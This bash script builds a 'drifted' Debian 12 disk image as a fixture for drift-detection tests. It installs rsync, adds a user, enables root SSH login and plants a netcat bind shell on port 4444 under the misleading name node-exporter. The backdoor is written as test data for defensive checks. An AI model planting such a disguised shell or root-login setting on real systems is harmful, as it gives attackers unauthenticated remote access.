#!/bin/bash
# Builds debian12-drifted.qcow2 for `make images`, after build-debian.sh: the Debian disk some weeks later. A package was installed with
# what it depends on, an account was added, sshd lets root in, and somebody left a program in /usr/local/bin. The tests of drift hold
# it against the disk it comes from. Packages come from the archive that build-debian.sh asks. A second run does nothing unless something
# changed. Root, or fakeroot and user namespaces, as build-debian.sh.
set -euo pipefail
. "$(dirname "$0")/debian.sh"

package=rsync
changed=$((SOURCE_DATE_EPOCH + 30 * 86400)) # 2025-12-01, when what is new was written

# customize ROOT: runs at the end of mmdebstrap, in the tree that the disk was made of
customize() {
	local root=$1
	chroot "$root" apt-get -qq update
	DEBIAN_FRONTEND=noninteractive chroot "$root" apt-get -qq install --no-install-recommends "$package"
	chroot "$root" useradd --uid 1666 --create-home --shell /bin/bash eve
	sed -i 's|^#PermitRootLogin .*|PermitRootLogin yes|' "$root/etc/ssh/sshd_config"
	printf '#!/bin/sh\nexec nc -l -p 4444 -e /bin/sh\n' >"$root/usr/local/bin/node-exporter"
	chmod 755 "$root/usr/local/bin/node-exporter"
	# the archive's lists and packages are of the day they were fetched
	rm -rf "$root"/var/lib/apt/lists/* "$root"/var/cache/apt/*.bin "$root"/var/cache/apt/archives/*.deb
}
if [[ ${1-} == customize ]]; then
	customize "$2"
	exit
fi

[[ -f $tarball ]] || { say "no $tarball: run build-debian.sh first" && exit 1; }
stamp=$(cat "$here/build-drifted.sh" "$here/debian.sh" "$tarball.recipe" | sha256sum | cut -d' ' -f1)
if [[ $(cat "$out/stamp-drifted" 2>/dev/null) == "$stamp" ]]; then
	say "the drifted disk in $out is up to date"
	exit
fi

assemble() {
	local work=$build/work-drifted
	trap 'rm -rf "$build/work-drifted"' EXIT
	tarball=$work/drifted.tar unpack "$work/tree"
	disk "$work/tree" "$work/disk.raw"
	say "converting"
	qemu-img convert -O qcow2 "$work/disk.raw" "$out/debian12-drifted.qcow2"
	echo "$stamp" >"$out/stamp-drifted"
}
if [[ ${1-} == assemble ]]; then
	assemble
	exit
fi

need
rm -rf "$build/work-drifted" "$out/stamp-drifted" && mkdir -p "$build/work-drifted" "$out"
say "installing $package into the tree of debian12"
SOURCE_DATE_EPOCH=$changed mmdebstrap --quiet --format=tar --variant=custom --skip=setup,update,cleanup \
	--setup-hook="tar -C \"\$1\" --numeric-owner --xattrs '--xattrs-include=*' -xpf '$tarball'" \
	--customize-hook="'$here/build-drifted.sh' customize \"\$1\"" bookworm "$build/work-drifted/drifted.tar"
root "$here/build-drifted.sh" assemble
